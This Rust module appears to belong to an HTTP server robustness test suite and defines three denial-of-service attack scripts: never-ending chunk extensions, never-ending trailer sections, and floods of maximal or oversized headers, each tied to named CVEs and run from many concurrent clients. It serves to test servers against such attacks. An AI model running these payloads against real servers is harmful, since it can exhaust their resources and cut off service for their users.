//! Messages that go on for ever in a part that means nothing, and heads as large as they may be.

use super::{Attack, Move, Reads, send, send_all};

const CHUNKED: &str = "POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "chunk-extensions",
        does: "an extension of a chunk that never ends, or one as long on each of many chunks",
        origin: "CVE-2012-3544 (Tomcat), CVE-2023-39326 (Go), CVE-2024-22019 (Node.js)",
        clients: 128,
        moves_per_s: 4_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            let one = vec![
                send(CHUNKED),
                send("1;a="),
                send_all("b".repeat(1024)),
                Move::Pause(10),
                Move::Repeat(2),
            ];
            let many = vec![
                send(CHUNKED),
                send_all(format!("1;{}\r\nx\r\n", "a".repeat(1000))),
                Move::Pause(10),
                Move::Repeat(1),
            ];
            vec![one, many]
        },
    },
    Attack {
        name: "trailers",
        does: "a trailer section that never ends",
        origin: "RFC 9112 §7.1.2 sets them no limit",
        clients: 128,
        moves_per_s: 4_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            vec![vec![
                send(CHUNKED),
                send("1\r\nx\r\n0\r\n"),
                send_all("X-a: b\r\n".repeat(64)),
                Move::Pause(10),
                Move::Repeat(2),
            ]]
        },
    },
    Attack {
        name: "header-bombs",
        does: "heads of as many fields and bytes as are allowed, again and again, and ones that are just too large",
        origin: "CVE-2018-12121 (Node.js)",
        clients: 128,
        moves_per_s: 2_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            let head = |fields: usize, bytes: usize| {
                let value = "v".repeat(bytes);
                let fields: String = (0..fields)
                    .map(|field| format!("X-{field}: {value}\r\n"))
                    .collect();
                let head = format!("GET /pipeline HTTP/1.1\r\nHost: a\r\n{fields}\r\n");
                vec![send_all(head), Move::Await, Move::Repeat(0)]
            };
            vec![head(99, 150), head(99, 1), head(101, 1), head(99, 200)]
        },
    },
];
